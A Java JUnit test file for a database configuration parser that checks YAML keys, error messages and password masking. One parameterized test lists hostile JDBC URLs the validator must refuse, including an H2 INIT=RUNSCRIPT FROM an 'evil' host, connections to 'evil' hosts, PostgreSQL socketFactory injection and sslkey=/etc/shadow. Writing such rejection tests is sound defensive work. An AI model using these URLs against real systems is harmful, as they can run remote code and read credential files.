package io.sidecars.demoapp.config;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseSettingsTest {

    private static DatabaseSettings parse(String yaml) throws InvalidConfigException {
        return DatabaseSettings.from(Snapshot.of(new TreeMap<>(Map.of("database.yaml", yaml.getBytes(UTF_8)))));
    }

    @Test
    void readsTheFourKeys() throws InvalidConfigException {
        assertThat(parse("url: jdbc:h2:mem:blue\nuser: shop\npassword: 0123\npoolSize: 7\n"))
                .isEqualTo(new DatabaseSettings("jdbc:h2:mem:blue", "shop", new Secret("0123"), 7));
    }

    @Test
    void poolSizeIsFourUnlessGiven() throws InvalidConfigException {
        assertThat(parse("{url: 'jdbc:h2:mem:blue', user: shop, password: x}").poolSize())
                .isEqualTo(4);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            url: jdbc:h2:mem:b;user: u;poolSize: 4              | database.yaml:1:1: missing key "password"
            url: jdbc:h2:mem:b;user: u;pasword: p               | database.yaml:3:1: unknown key "pasword"; the keys are url, user, password, poolSize
            url: jdbc:h2:mem:b;user: u;password: p;poolSize: 0  | database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "0"
            url: jdbc:h2:mem:b;user: u;password: p;poolSize: '4'| database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "4"
            url: jdbc:h2:mem:b;user: u;password: p;poolSize: 1e9| database.yaml:4:11: poolSize must be a whole number from 1 to 64, but is "1e9"
            url: jdbc:h2:mem:b;user: [u, v];password: p         | database.yaml:2:7: user must have a single value
            url: jdbc:h2:mem:b;user: u;password:                | database.yaml:3:10: password must have a single value
            url: jdbc:h2:mem:b;user: u;user: v;password: p      | database.yaml:3:1: duplicate key "user"
            url: h2:mem:blue;user: u;password: p           | database.yaml:1:6: url must be jdbc:h2:mem:NAME or jdbc:postgresql://HOST:PORT/NAME (its only accepted parameter is sslmode)
            just text                                      | database.yaml:1:1: must be a mapping with the keys url, user, password, poolSize
            url: jdbc:h2:mem:b;user: "u                         | database.yaml:2:9: invalid YAML: found unexpected end of stream
            """)
    void anErrorIsOneSentenceWithFileLineAndColumn(String yaml, String sentence) {
        assertThatThrownBy(() -> parse(yaml.replace(";", "\n")))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessage(sentence);
    }

    @Test
    void emptyFileIsRefused() {
        assertThatThrownBy(() -> parse("# nothing\n"))
                .hasMessage("database.yaml: must be a mapping with the keys url, user, password, poolSize");
    }

    @Test
    void missingFileIsRefused() {
        assertThatThrownBy(() -> DatabaseSettings.from(Snapshot.of(new TreeMap<>())))
                .hasMessage("the configuration directory contains no database.yaml");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:blue",
                "jdbc:h2:mem:blue;IFEXISTS=TRUE",
                "jdbc:postgresql://db:5432/orders",
                "jdbc:postgresql://db.example.com/orders?sslmode=verify-full",
                "jdbc:postgresql://[::1]:5432/orders"
            })
    void urlNamesADatabase(String url) throws InvalidConfigException {
        assertThat(parse("{url: '" + url + "', user: u, password: p}").url()).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://evil/x.sql''",
                "jdbc:h2:mem:x;IFEXISTS=TRUE;INIT=SELECT 1",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
                "jdbc:h2:mem:x\\;INIT=SELECT 1",
                "jdbc:h2:mem:",
                "jdbc:h2:mem:../x",
                "jdbc:h2:file:/logs/x",
                "jdbc:h2:/logs/x",
                "jdbc:h2:~/x",
                "jdbc:h2:tcp://evil/x",
                "jdbc:h2:ssl://evil/x",
                "jdbc:h2:zip:/logs/x.zip!/x",
                "jdbc:h2:nio:/logs/x",
                "JDBC:H2:MEM:x;INIT=SELECT 1",
                "jdbc:postgresql:orders",
                "jdbc:postgresql:///orders",
                "jdbc:postgresql:///?service=x",
                "jdbc:postgresql://db/orders?socketFactory=java.net.URL",
                "jdbc:postgresql://db/orders?sslmode=require&socketFactory=java.net.URL",
                "jdbc:postgresql://db/orders?sslmode=require&sslfactory=x",
                "jdbc:postgresql://db/orders?loggerFile=/logs/app.log&loggerLevel=TRACE",
                "jdbc:postgresql://db/orders?options=-c%20x",
                "jdbc:postgresql://db/orders?sslkey=/etc/shadow",
                "jdbc:postgresql://db/orders;x",
                "jdbc:postgresql://db,evil/orders",
                "jdbc:postgresql://db/%6frders",
                "jdbc:mysql://db/orders",
                "jdbc:hsqldb:mem:x",
                "ldap://evil/x"
            })
    void urlThatCouldDoMoreThanNameADatabaseIsRefusedAndNotRepeated(String url) {
        assertThatThrownBy(() -> parse("url: '" + url + "'\nuser: u\npassword: p\n"))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessage("database.yaml:1:6: url must be jdbc:h2:mem:NAME or jdbc:postgresql://HOST:PORT/NAME"
                        + " (its only accepted parameter is sslmode)");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:h2:mem:b;PASSWORD=hunter2",
        "jdbc:postgresql://u:hunter2@db/shop",
        "jdbc:x://h/d?password =hunter2"
    })
    void credentialsInTheUrlAreRefusedAndNotRepeated(String url) {
        assertThatThrownBy(() -> parse("url: '" + url + "'\nuser: u\npassword: p\n"))
                .hasMessageContaining("url must not contain credentials")
                .hasMessageNotContaining("hunter2");
    }

    @ParameterizedTest
    @CsvSource({
        "*hunter2",
        "'&a *hunter2'",
        "'[hunter2'",
        "'{hunter2: hunter2}'",
        "'!hunter2 {}'",
        "'%hunter2'",
        "'@hunter2'"
    })
    void noMessageRepeatsThePassword(String password) {
        assertThatThrownBy(() -> parse("url: jdbc:h2:mem:b\nuser: u\npassword: " + password + "\n"))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessageStartingWith("database.yaml:")
                .hasMessageNotContaining("hunter2");
    }

    @Test
    void passwordIsNotPrinted() throws InvalidConfigException {
        assertThat(parse("{url: 'jdbc:h2:mem:b', user: u, password: hunter2}").toString())
                .contains("****")
                .doesNotContain("hunter2");
    }
}
